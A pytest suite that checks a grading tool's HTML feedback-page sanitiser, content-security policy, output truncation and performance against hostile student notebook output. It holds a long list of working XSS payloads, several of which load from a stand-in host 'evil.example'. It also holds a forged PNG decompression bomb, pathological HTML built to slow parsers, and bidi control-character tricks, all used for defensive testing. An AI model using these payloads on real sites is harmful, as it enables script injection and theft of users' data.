"""A student's page says what there is to say, and nothing that a student made can act in it."""

from __future__ import annotations

import base64
import io
import json
import struct
import time
import zlib
from pathlib import Path
from typing import Any

import pytest
from bleach._vendor import html5lib  # type: ignore[import-untyped]  # parses as browsers do
from bs4 import BeautifulSoup
from PIL import Image

from roadbook.grading import feedback_page
from roadbook.grading.feedback_page import LIMIT, Mark, clean, page, sanitise
from roadbook.grading.result import Outcome, TaskResult
from tests.grading.tiny import SLUG, cells, v4

OURS = {"html", "head", "meta", "title", "style", "body", "main", "section", "h1", "h2", "h3", "p", "bdi"}
OURS |= {"strong", "label", "progress", "pre", "code", "div", "img", "br"}
ATTRIBUTES = {
    "html": {"lang"},
    "meta": {"charset", "http-equiv", "content", "name"},
    "p": {"class"},
    "strong": {"class"},
    "label": {"for"},
    "progress": {"id", "value", "max"},
    "pre": {"class", "tabindex"},
    "div": {"class", "tabindex"},
    "img": {"src", "alt"},
    "td": {"colspan", "rowspan"},
    "th": {"colspan", "rowspan"},
}

XSS = {
    "script": "<script>alert(1)</script>",
    "script in capitals, unclosed": "<SCRIPT SRC=//evil.example/x.js",
    "script in script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "handler": "<img src=x onerror=alert(1)>",
    "handler without quotes or spaces": "<img/src/onerror=alert(1)//",
    "handler on an allowed tag": "<td onmouseover='alert(1)'>x</td><b onclick=alert(1)>x</b>",
    "handler on details": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "body": "<body onload=alert(1) background=//evil.example/x.png>",
    "svg": "<svg onload=alert(1)><animate attributeName=href values=javascript:alert(1) /></svg>",
    "svg with a foreign object": "<svg><foreignObject><iframe srcdoc='<script>1</script>'></foreignObject></svg>",
    "svg use": "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "math": "<math><maction actiontype='statusline#http://evil' xlink:href='javascript:alert(1)'>x</maction></math>",
    "mutation: math, table, style": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "mutation: noscript": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "mutation: listing and backticks": "<listing>&lt;img onerror=alert(1) src=x&gt;</listing><p title='`onerror=alert(1)`'>",
    "mutation: svg, p, style": "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "mutation: form in form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "mutation: xmp": "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "comment": "<!--><img src=x onerror=alert(1)>-->",
    "conditional comment": "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "processing instruction": "<?xml-stylesheet href='javascript:alert(1)'?><x>",
    "link with javascript": "<a href='java\tscript:alert(1)'>x</a><a href=' &#106;avascript:alert(1)'>y</a>",
    "link with data": "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "remote image": "<img src=//evil.example/x.png srcset='//evil.example/2x.png 2x'>",
    "picture": "<picture><source srcset=//evil.example/x.png><img></picture><video poster=//evil.example/x src=//e>",
    "style with url": "<p style='background:url(//evil.example/x.png)'>x</p>",
    "style with expression": "<div style='width:expression(alert(1));behavior:url(x.htc);-moz-binding:url(x)'>x</div>",
    "style element": "<style>@import '//evil.example/x.css'; body{display:none}</style>",
    "style over the page": "<div style='position:fixed;inset:0;z-index:9'><h1>13 of 13 points</h1></div>",
    "meta refresh": "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "base": "<base href=//evil.example/>",
    "link": "<link rel=stylesheet href=//evil.example/x.css><link rel=prefetch href=//evil.example>",
    "frames": "<iframe src=javascript:alert(1)></iframe><frameset><frame src=//e></frameset><object data=//e></object><embed src=//e>",
    "form": "<form action=//evil.example><input name=password><button formaction=//e>Log in</button></form>",
    "template": "<template><script>alert(1)</script></template><slot name=x></slot>",
    "isindex, keygen, marquee": "<isindex action=//e><keygen><marquee onstart=alert(1)>x</marquee>",
    "ends of our own elements": "</div></section></main></body></html><script>alert(1)</script>",
    "ends of a table": "<table><tr><td></td></table></table></div></td></tr></main><p>x",
    "unclosed tags": "<table><tr><td><b><i><ul><li><pre><code>",
    "unclosed attribute": '<b title="><script>alert(1)</script>',
    "plaintext": "<plaintext><script>alert(1)",
    "textarea and title": "<textarea></title><script>alert(1)</script>",
    "NUL bytes": "<scr\0ipt>alert(1)</scr\0ipt><img\0src=x\0onerror=alert(1)>",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt;&#60;img src=x onerror=alert(1)&#62;&NotAnEntity;&#0;&#xD800;",
    "ids and names over the page's": "<p id=all name=all class=score>13 of 13</p><img name=body><form id=cookie>",
    "utf-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "xlink and namespaces": "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "dangling markup": "<img src='//evil.example/?",
    "portal and fencedframe": "<portal src=//e></portal><fencedframe></fencedframe><webview src=//e></webview>",
    "popover": "<button popovertarget=x>x</button><div popover id=x onbeforetoggle=alert(1)>x</div>",
    "spans": "<td colspan='9999999' rowspan='-1'>x</td><td colspan='1 onload=alert(1)'>",
}


def outcome(
    *outputs: Any, source: str = "x = 1", message: str = "expected 3, got 4", name: str = "Ada", **more: Any
) -> Outcome:
    """Return a submission of the tiny assignment with these outputs in its first answer."""
    notebook = json.loads(json.dumps(v4.new_notebook(cells=cells(solved=True))))
    for cell in notebook["cells"]:
        mark = cell["metadata"]["nbgrader"]
        if mark["solution"]:
            cell["source"] = {"mean": source, "tally": "def tally(words): ...", "why": "*Outliers* <b>"}[
                mark["grade_id"]
            ]
            cell["outputs"] = list(outputs) if mark["grade_id"] == "mean" else []
        elif mark["grade"]:
            cell["outputs"] = [stream("SECRET of the tests")]
    tasks = [
        TaskResult("mean", "mean-tests", "Task 1: mean", 0.0, 2.0, "failed", message),
        TaskResult("tally", "tally-tests", "Task 2: tally", 3.0, 3.0, "passed", ""),
        TaskResult("why", "", "Task 3: say why", None, 1.0, "written", ""),
    ]
    base: dict[str, Any] = {"status": "needs_manual", "reason": "", "tasks": tasks, "notebook": notebook}
    return Outcome(student=name, assignment=SLUG, **{**base, **more})


def stream(text: Any, name: str = "stdout") -> dict[str, Any]:
    return {"output_type": "stream", "name": name, "text": text}


def display(**data: Any) -> dict[str, Any]:
    kinds = {"html": "text/html", "plain": "text/plain", "png": "image/png", "jpeg": "image/jpeg"}
    return {
        "output_type": "display_data",
        "metadata": {},
        "data": {kinds.get(k, k): v for k, v in data.items()},
    }


def image(kind: str = "PNG", size: tuple[int, int] = (6, 4)) -> bytes:
    file = io.BytesIO()
    Image.new("RGB", size, "red").save(file, kind)
    return file.getvalue()


def encoded(data: bytes) -> str:
    return base64.b64encode(data).decode()


def inert(text: str) -> BeautifulSoup:
    """Assert that a page holds no element or attribute but those known, read in two ways; return it."""
    allowed = OURS | feedback_page.ALLOWED
    soup = BeautifulSoup(text, "html.parser")
    found = [(tag.name, {k: str(v) for k, v in tag.attrs.items()}) for tag in soup.find_all(True)]
    tree = html5lib.parse(text, treebuilder="etree", namespaceHTMLElements=False)
    found += [(element.tag, dict(element.attrib)) for element in tree.iter() if isinstance(element.tag, str)]
    for name, attributes in found:
        assert name in allowed, name
        assert set(attributes) <= ATTRIBUTES.get(name, set()), (name, attributes)
        if name == "img":
            assert attributes["src"].startswith(("data:image/png;base64,", "data:image/jpeg;base64,"))
        for span in ("colspan", "rowspan"):
            assert attributes.get(span, "1").isdigit() and len(attributes.get(span, "1")) < 3
    assert len(soup.find_all("style")) == len(soup.find_all("main")) == len(soup.find_all("h1")) == 1
    # What comes after the outputs is still in its place.
    main = tree.find("body/main")
    assert main is not None and len(main.findall("section")) == 3
    assert [e.tag for e in tree.find("body")] == ["main"]
    assert not any(ord(c) < 32 and c not in "\n\t" for c in text)
    text.encode()  # no half characters
    return soup


def said(soup: BeautifulSoup) -> str:
    return " ".join(soup.get_text(" ").split())


@pytest.mark.parametrize("name", XSS)
def test_hostile_html_is_inert(name: str) -> None:
    inert(
        page(outcome(display(html=XSS[name]), display(html=f"<table><tr><td>{XSS[name]}</td></tr></table>")))
    )


def test_hostile_text_is_only_text_everywhere() -> None:
    """The same strings as source, message, output, error, name, title, reason, remark and comment."""
    for vector in XSS.values():
        hostile = outcome(
            stream(vector),
            stream([vector, vector], "stderr"),
            display(plain=vector),
            {"output_type": "error", "ename": vector, "evalue": vector, "traceback": [vector]},
            {"output_type": "display_data", "data": {vector: vector}, "metadata": {vector: vector}},
            source=vector,
            message=vector,
            name=f"</title>{vector}",
            reason=vector,
            remarks=[vector],
        )
        inert(page(hostile, {"why": Mark(0.5, comment=vector)}))


def test_the_policy_forbids_what_is_active_or_remote() -> None:
    soup = inert(page(outcome()))
    policy = soup.find("meta", attrs={"http-equiv": True})
    assert policy is not None
    rules = str(policy["content"])
    assert rules.startswith("default-src 'none';") and "img-src data:;" in rules and "unsafe" not in rules
    style = soup.find("style")
    assert style is not None and style.string == feedback_page.STYLE, "else its hash does not let it through"


def test_what_a_page_says() -> None:
    error = {
        "output_type": "error",
        "ename": "ValueError",
        "evalue": "\x1b[31mno\x1b[0m",
        "traceback": ["TRACE"],
    }
    text = page(outcome(stream("hello\n"), error, source="a < b\n\nc", remarks=["Two cells."]))
    soup = inert(text)
    words = said(soup)
    for part in (
        "Feedback: 91-tiny",
        "3 of 6 points so far; 1 task waits for your instructor",
        "✗ failed , 0 of 2 points",
        "expected 3, got 4",
        "✓ passed , 3 of 3 points",
        "✎ written , waits for your instructor, 1 points",
        "Note: Two cells.",
        "hello",
        "ValueError: no",
        "*Outliers* <b>",
    ):
        assert part in words, part
    lines = soup.select("pre.answer")[0].find_all("code")
    assert [line.get_text() for line in lines] == ["a < b\n", "\n", "c\n"]
    assert "TRACE" not in text and soup.html is not None and soup.html["lang"] == "en"


def test_nothing_of_other_cells_is_shown() -> None:
    text = page(outcome(stream("mine")))
    whole = outcome().notebook
    assert whole is not None
    others = [c for c in whole["cells"] if not c["metadata"]["nbgrader"]["solution"]]
    lines = {line.strip() for cell in others for line in "".join(cell["source"]).splitlines()}
    long = {line for line in lines if len(line) > 12 and not line.startswith("## Task")}
    assert any("secret" in line for line in long), "the test would be empty"
    assert not [line for line in long if line in BeautifulSoup(text, "html.parser").get_text()]
    assert "SECRET" not in text and "HIDDEN" not in text


def test_what_a_person_gave() -> None:
    marks = {"why": Mark(0.5, comment="Say <why>.\nMore."), "mean": Mark(1.0, extra=0.25)}
    words = said(inert(page(outcome(), marks, penalty=0.75)))
    assert "4 of 6 points Points taken off because it was late: 0.75." in words
    assert "0.5 of 1 points Your instructor says Say <why>. More." in words
    assert "1.25 of 2 points, of which 0.25 extra" in words


def test_a_penalty_takes_no_more_than_there_is() -> None:
    text = said(inert(page(outcome(), penalty=9.0)))
    assert "0 of 6 points" in text and "-" not in text.split("of 6 points")[0][-8:], text


def test_a_written_task_left_empty_waits_for_nobody() -> None:
    empty = TaskResult("why", "", "Task 3", None, 1.0, "not written yet", "")
    words = said(BeautifulSoup(page(outcome(status="graded", tasks=[empty])), "html.parser"))
    assert "0 of 1 points ○" not in words and "0 of 1 points" in words and "wait" not in words


@pytest.mark.parametrize("status", ["failed", "rejected"])
def test_not_graded_is_no_score(status: Any) -> None:
    text = page(Outcome("Ada", SLUG, status, "the reason"))
    assert "Not graded" in text and "the reason" in text and "points" not in text and "<progress" not in text


def test_honest_tables_survive() -> None:
    import pandas as pd

    frame = pd.DataFrame({"k": [1, 3], "error <b>": [0.5, 0.25]}, index=["a", "b"])
    styled = (
        frame.to_html()
        + "<table><tr><th colspan='2'>both</th></tr></table><p>x<sub>1</sub> &amp; <b>y</b></p>"
    )
    raw = f"<div>\n<style scoped>\n.dataframe td {{ color: red; }}\n</style>\n{styled}</div>"
    soup = inert(page(outcome(display(html=raw, plain="plain"))))
    table, second = soup.find_all("table")
    rows = [[c.get_text() for c in row.find_all(["th", "td"])] for row in table.find_all("tr")]
    assert rows == [["", "k", "error <b>"], ["a", "1", "0.50"], ["b", "3", "0.25"]]
    assert second.th is not None and second.th["colspan"] == "2"
    assert "x 1 & y" in said(soup) and "color: red" not in said(soup) and "plain" not in said(soup)


def test_images_survive_when_they_are_images() -> None:
    good = [display(png=encoded(image()) + "\n", plain="<Figure>"), display(jpeg=encoded(image("JPEG")))]
    assert len(inert(page(outcome(*good))).find_all("img")) == 2
    png = image()
    bad = {
        "html behind the image": png + b"<script>alert(1)</script>",
        "html with the first bytes of an image": png[:8] + b"<script>alert(1)</script>" + png[-8:],
        "a gif": b"GIF89a" + png,
        "html": b"<html><script>alert(1)</script>",
        "cut": png[:-20],
        "too many pixels": _bomb(),
        "another kind": image("JPEG"),
        "nothing": b"",
    }
    for name, data in bad.items():
        soup = inert(page(outcome(display(png=encoded(data), plain="instead"))))
        assert not soup.find("img") and "instead" in said(soup), name
    for text in ('"><script>alert(1)</script>', "a b=c", ["iVBORw0KGgo=", 3], {"a": 1}, None):
        assert not inert(page(outcome(display(png=text)))).find("img")
    assert "<img" not in page(outcome(display(**{"image/svg+xml": "<svg onload=alert(1)/>"})))


def _bomb() -> bytes:
    """Return a PNG that says it is 8,000 pixels wide and high; Pillow alone refuses from 13,400 on."""
    data = bytearray(image())
    data[16:24] = struct.pack(">II", 8_000, 8_000)
    data[29:33] = struct.pack(">I", zlib.crc32(data[12:29]))
    return bytes(data)


MB = 1_000_000


@pytest.mark.parametrize(
    "output",
    [
        pytest.param(lambda: stream("x" * 50 * MB), id="one line"),
        pytest.param(lambda: stream("<&'\"\n" * 10 * MB), id="what escaping makes longer"),
        pytest.param(lambda: stream(["é\n"] * 5 * MB), id="a list of lines"),
        pytest.param(lambda: stream("\x1b[" * 5 * MB), id="colour codes without an end"),
        pytest.param(lambda: stream("\x1b]" * 5 * MB), id="titles without an end"),
        pytest.param(lambda: stream("a\r" * 5 * MB), id="carriage returns"),
        pytest.param(lambda: display(plain="\0" * 5 * MB), id="NUL bytes"),
        pytest.param(lambda: display(html="<b>" * 5 * MB, plain="small"), id="html"),
        pytest.param(lambda: display(png="A" * 50 * MB), id="image"),
        pytest.param(
            lambda: display(png=encoded(image("PNG", (300, 300)) + bytes(140_000))), id="some image"
        ),
    ],
)
def test_huge_output_makes_a_small_page_soon(output: Any) -> None:
    outputs = [output(), stream("last")]
    began = time.process_time()
    text = page(outcome(*outputs))
    assert time.process_time() - began < 2
    assert len(text.encode()) < LIMIT
    inert(text)
    assert ">last</pre>" in text, "a large output does not push the others out"


def test_it_says_how_much_was_cut() -> None:
    text = page(outcome(stream("x" * MB), source="y = 1\n" * MB, message="m" * MB))
    soup = inert(text)
    assert len(text.encode()) < LIMIT
    cuts = [p.get_text() for p in soup.select("p.quiet") if p.get_text().startswith("Cut here: ")]
    assert len(cuts) == 3
    shown = soup.find_all("pre")[1].get_text()
    assert set(shown) == {"x"} and f"{MB - len(shown):,} more characters" in cuts[2]
    answer = page(outcome(source="ab = 1\n" * MB))
    lines = [line.get_text() for line in BeautifulSoup(answer, "html.parser").select("pre.answer")[0]]
    assert set(lines[:-1]) == {"ab = 1\n"} and "ab = 1\n".startswith(lines[-1].strip("\n"))
    for length in range(MB, MB + 6):  # wherever the cut falls, no half of an entity shows
        cut = page(outcome(stream("<" * 60_000), source="<" * 60_000, message="x" * (length - MB)))
        assert {set(pre.get_text().strip()) == {"<"} for pre in inert(cut).find_all("pre")[:2]} == {True}
    assert "Cut here" not in page(outcome(stream("<é>\n" * 1000), source="y = 1\n\n"))


def test_many_outputs_and_tasks_stay_under_the_limit() -> None:
    many = [stream("<" * 3000, name) for name in ["stdout", "stderr"] * 500]
    text = page(outcome(*many))
    assert len(text.encode()) < LIMIT and "more outputs are not shown" in text
    notebook = outcome().notebook
    assert notebook is not None
    solution = next(c for c in notebook["cells"] if c["metadata"]["nbgrader"]["grade_id"] == "mean")
    notebook["cells"] = []
    tasks = []
    for number in range(60):
        cell = json.loads(json.dumps(solution)) | {"source": "'\n" * 20_000, "outputs": many[:40]}
        cell["metadata"]["nbgrader"]["grade_id"] = f"t{number}"
        notebook["cells"].append(cell)
        tasks.append(TaskResult(f"t{number}", "x", "'" * 300, 0.0, 1.0, "failed", "&" * 5000))
    marks = {task.name: Mark(0, 1, "&" * 9000) for task in tasks}
    text = page(outcome(tasks=tasks, notebook=notebook, remarks=["&" * 9999] * 20), marks)
    assert len(text.encode()) < LIMIT


WORST = {
    "nested lists": "<ul>" * 3000,
    "nested items": "<ul><li>" * 1500,
    "nested tables": "<table><td>" * 1500,
    "formatting that is opened again": "<b>" * 50 + "<ul>" * 1500 + "</b>" * 50 + "<p></b>" * 500,
    "attributes": "<td " + " ".join(f"a{i}" for i in range(8500)) + ">",
    "ampersands": "&" * 60_000,
    "unclosed raw text": "<style" * 3000,
}


@pytest.mark.parametrize("name", WORST)
def test_the_slowest_html_does_not_take_long(name: str) -> None:
    began = time.process_time()
    text = page(outcome(*[display(html=WORST[name], plain="instead")] * 20))
    assert time.process_time() - began < 5
    assert len(text.encode()) < LIMIT
    inert(text)


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("\x1b[1;31mred\x1b[0m \x1b]0;title\x07end\x1b(B", "red end"),
        ("\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\", "link"),
        ("a\x9b31mb", "a�31mb"),
        ("if admin\u202e # \u2066", "if admin� # �"),
        ("pass\u200bword\ufeff", "pass�word�"),
        ("half \ud83d", "half �"),
        ("NUL\0 bell\x07", "NUL� bell�"),
        ("tags\U000e0041\U000e007f", "tags��"),
        ("👩\u200d💻 می\u200cخواهم مرحبا", "👩\u200d💻 می\u200cخواهم مرحبا"),
        ("a\r\nb\rc", "a\nb\nc"),
    ],
)
def test_text_shows_as_it_is(raw: str, shown: str) -> None:
    assert clean(raw) == shown
    assert (
        shown in inert(page(outcome(display(plain=raw), source=raw, name=raw.replace("\n", "")))).get_text()
    )


def test_progress_bars_show_their_end() -> None:
    assert clean("10 %\r50 %\r100 %\ndone\r\n", terminal=True) == "100 %\ndone\n"


@pytest.mark.parametrize(
    "output",
    [
        {},
        {"output_type": "stream"},
        {"output_type": "stream", "text": {"a": 1}},
        {"output_type": "error", "ename": None, "evalue": [1, "x"]},
        {"output_type": "display_data", "data": "text"},
        {"output_type": "display_data", "data": {"text/html": 3, "text/plain": None}},
        {"output_type": ["stream"], "data": {"application/javascript": "alert(1)"}},
        "text",
        None,
    ],
)
def test_outputs_of_no_format_do_no_harm(output: Any) -> None:
    assert "alert" not in str(inert(page(outcome(output, stream("last")))))


def test_sanitised_html_stays_the_same_when_sanitised_again() -> None:
    for vector in XSS.values():
        once = sanitise(vector)
        assert sanitise(once) == once


def test_write_replaces_whole_or_not_at_all(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = tmp_path / "feedback" / "Ada" / "91-tiny.html"
    feedback_page.write(outcome(), path)
    before = path.read_text(encoding="utf-8")
    assert before == page(outcome())

    def full(*_: Any) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(Path, "replace", full)
    with pytest.raises(OSError, match="No space"):
        feedback_page.write(outcome(message="new"), path)
    assert path.read_text(encoding="utf-8") == before and list(path.parent.iterdir()) == [path]


def test_a_page_is_quick() -> None:
    typical = outcome(stream("0.95\n" * 20), source="def f(x):\n    return x + 1\n" * 20)
    page(typical)
    began = time.process_time()
    for _ in range(20):
        page(typical)
    assert (time.process_time() - began) / 20 < 0.003  # 0.2 ms on the machine that wrote this
